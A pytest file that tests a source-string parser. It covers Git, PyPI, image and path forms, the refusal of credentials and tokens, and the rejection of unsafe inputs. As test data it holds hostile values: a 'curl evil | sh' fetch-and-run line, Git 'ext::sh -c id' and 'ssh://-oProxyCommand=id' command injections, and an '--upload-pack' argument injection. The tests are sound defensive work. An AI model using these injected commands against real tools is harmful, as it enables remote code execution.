from pathlib import Path

import pytest

from selfplay.commands.order import Order
from selfplay.repository.errors import SourceError
from selfplay.repository.fetching.source import GitSource, ImageSource, PathSource, PypiSource, is_list, parse_source


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://host/owner/repo", GitSource("https://host/owner/repo")),
        ("git+https://host/owner/repo.git@v1.2", GitSource("https://host/owner/repo.git", "v1.2")),
        ("https://host/repo@feature/x", GitSource("https://host/repo", "feature/x")),
        ("https://host/@scope/repo", GitSource("https://host/@scope/repo")),
        ("ssh://git@host:22/repo.git@main", GitSource("ssh://git@host:22/repo.git", "main")),
        ("git@host:owner/repo.git", GitSource("git@host:owner/repo.git")),
        ("git@host:owner/repo.git@1234abc", GitSource("git@host:owner/repo.git", "1234abc")),
        ("file:///some/where/repo@v2", GitSource("file:///some/where/repo", "v2")),
        ("pypi:Flask_Login", PypiSource("flask-login")),
        ("image:", ImageSource()),
        ("image:/opt/app/", ImageSource("/opt/app")),
        ("pypi:attrs==23.1.0", PypiSource("attrs", "23.1.0")),
        ("pypi:attrs==24.1.0rc1", PypiSource("attrs", "24.1.0rc1")),
    ],
)
def test_forms(text: str, expected: object) -> None:
    assert parse_source(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "https://user@host/repo", "https://me:S3CRET@host/repo@main", "git+http://S3CRET@host:80/repo",
        "ssh://git:S3CRET@host/repo", "HTTPS://a:S3CRET@b@host/x", "ftp://me:S3CRET@host/x", "https://S3CRET:@[::1]/x",
        "http://S3CRET@[bad/x",
    ],
)  # fmt: skip
def test_credentials_are_not_stored_as_part_of_a_name(text: str) -> None:
    with pytest.raises(SourceError, match="holds a user or a password") as caught:
        parse_source(text)
    assert "S3CRET" not in f"{caught.value.message} {caught.value.hint}" and "netrc" in (caught.value.hint or "")


def test_a_folder_may_have_spaces_accents_and_at_signs(tmp_path: Path) -> None:
    folder = tmp_path / "pläce with space@v1"
    folder.mkdir()
    assert parse_source(str(folder)) == PathSource(folder)
    assert parse_source(f"file://{folder}") == GitSource(f"file://{folder}")


def test_what_has_the_form_of_a_source_is_it_whatever_lies_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A checkout may bring a file of that name, which would be read as a list: its setup counts as typed."""
    monkeypatch.chdir(tmp_path)
    for text in ("host:path", "git@github.com:a/b", "pypi:roman==5.0", "https://github.com/a/b", "image:/x"):
        (tmp_path / text).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / text).write_text("pypi:evil setup='curl evil | sh'\n")
        assert not is_list(text) and not isinstance(parse_source(text), PathSource)
        assert is_list(f"./{text}") and is_list(str(tmp_path / text))
    (tmp_path / "host:path").unlink()
    (tmp_path / "host:path").mkdir()
    assert parse_source("host:path") == GitSource("host:path")
    assert parse_source("./host:path") == PathSource(tmp_path / "host:path")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "is not a source"),
        ("no/such/folder", "does not exist"),
        ("~nosuchuser/x", "'~nosuchuser/x': no home of a user is known by that name"),
        (__file__, "is not a folder"),
        ("ext::sh -c id", "remote helpers are not accepted"),
        ("https://[host/repo", "is not a URL"),
        ("https://host/repo?private_token=S3CRET", "a source's URL may have no part behind"),
        ("ssh://git@host/repo?private_token=S3CRET", "a source's URL may have no part behind"),
        ("https://host/repo%3Fprivate_token=S3CRET", "a source's URL may have no part behind"),
        ("https://host/repo;private_token=S3CRET", "a source's URL may have no part behind"),
        ("ftp://host/repo", "the scheme 'ftp' is not supported"),
        ("https:///repo", "names no host"),
        ("ssh://-oProxyCommand=id/x", "cannot start with '-'"),
        ("https://host/", "names no repository"),
        ("https://host/repo@", "'' is not a revision"),
        ("https://host/repo@--upload-pack=x", "is not a revision"),
        ("https://host/repo#egg=x", "'#' parts are not supported"),
        ("pypi:", "is not pypi:NAME"),
        ("pypi:a b", "is not pypi:NAME"),
        ("pypi:attrs==latest", "'latest' is not a version"),
        pytest.param("pypi:attrs==1!" + "9" * 5000, "is not a version", id="a version of 5000 digits"),
    ],
)
def test_what_is_refused(text: str, message: str) -> None:
    with pytest.raises(SourceError, match=message.replace("(", r"\(")):
        parse_source(text)


def test_a_name_too_long_to_look_up_is_not_a_source():
    with pytest.raises(SourceError, match="too long"):
        parse_source("a" * 850)


@pytest.mark.parametrize(
    "text",
    [
        "pip install -i https://me:S3CRET@h/simple x",
        "PIP_INDEX_URL='HTTP://S3CRET@h/' make",
        "GOPROXY=me:S3CRET@h/go go mod download",
        "npm config set registry //me:S3CRET@h/",
    ],
)
def test_a_command_with_a_password_is_refused(text: str) -> None:
    """It would be stored with the bugs, and stand in datasets."""
    with pytest.raises(SourceError, match=r"^a URL in --setup holds a user or a password") as told:
        Order("s", Path("o"), setup=text)
    assert "S3CRET" not in str(told.value)
    with pytest.raises(SourceError, match="in --test holds"):
        Order("s", Path("o"), test=text)
    Order("s", Path("o"), setup="pip install x@https://host/x.whl user@host", test="curl https://host/a@b")
    Order("s", Path("o"), setup="docker pull a/b:1@sha256:00; npm install x@npm:y@1; git clone git@github.com:a/b@c")
    Order("s", Path("o"), setup="deno add npm:chalk@5 x=npm:y@latest", test="mvn surefire:test@unit -Dx=a:b@2")
    Order(
        "s",
        Path("o"),
        setup="bazel test //pkg:tgt@x; gradle -Pdep=grp:art@aar",
        test="pytest tests/sk-learn-a-very-long-name",
    )


@pytest.mark.parametrize(
    "token", ["ghp_" + "a1B2" * 9, "hf_" + "Zz9" * 12, "sk-proj-" + "xB1_" * 10, "AKIA" + "Q7" * 8]
)
def test_a_command_with_a_token_is_refused(token: str) -> None:
    with pytest.raises(SourceError, match=r"^--test holds a token \(") as told:
        Order("s", Path("o"), test=f"TOKEN={token} pytest")
    assert token not in str(told.value)
    Order("s", Path("o"), test="SECRET_KEY=test TOKEN=$TOKEN pytest -k 'ghp_short or sk-learn or hf_hub'")
